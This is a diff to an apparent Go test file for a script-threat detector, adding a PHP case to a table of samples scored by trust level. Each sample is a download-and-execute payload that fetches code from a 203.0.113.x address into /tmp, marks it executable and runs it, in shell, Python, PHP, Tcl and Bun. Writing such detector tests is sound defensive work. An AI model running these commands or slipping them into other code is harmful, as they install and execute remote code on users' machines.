@@ -86,6 +86,7 @@ func samples() []indicatortest.Sample {
 		{Name: "pipe-into-code-that-runs", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/x | python3 -c 'import sys; exec(sys.stdin.read())'\n", Want: trust.Weak, IfRun: trust.Strong},
 		{Name: "pipe-exits-early", Path: "a.sh", Kind: script, Content: "curl -s http://203.0.113.7/x | bash -ex\n", Want: trust.Weak, IfRun: trust.Strong},
 		{Name: "library-of-python", Path: "a.py", Kind: script, Content: "r=urllib3.PoolManager().request(\"GET\",\"http://203.0.113.9/k\")\nwith open(\"/tmp/.k\",\"wb\") as f: f.write(r.data)\nos.chmod(\"/tmp/.k\",0o755)\nos.spawnl(os.P_NOWAIT,\"/tmp/.k\",\"k\")\n", Want: trust.Strong},
+		{Name: "php-in-one-line", Path: "a.php", Kind: script, Content: "<?php if(!file_exists(\"/tmp/.k\")){file_put_contents(\"/tmp/.k\",file_get_contents(\"http://203.0.113.9/k\"));chmod(\"/tmp/.k\",0755);exec(\"/tmp/.k > /dev/null &\");}\n", Want: trust.Strong},
 		{Name: "sources-from-an-address", Path: "a.sh", Kind: script, Content: "git clone -q http://203.0.113.9/r.git /tmp/.r && cd /tmp/.r && sh run.sh\n", Want: trust.Weak, IfRun: trust.Strong},
 		{Name: "tcl", Path: "a.tcl", Kind: script, Content: "package require http\nset t [http::geturl http://203.0.113.9/k -channel [open /tmp/k w]]\nfile attributes /tmp/k -permissions 0755\nexec /tmp/k &\n", Want: trust.Strong},
 		{Name: "bun", Path: "a.ts", Kind: text, Content: "await Bun.write(\"/tmp/k\", await fetch(\"http://203.0.113.9/k\"));\nawait $`chmod +x /tmp/k`; await $`/tmp/k`;\n", Want: trust.Context, IfRun: trust.Strong},
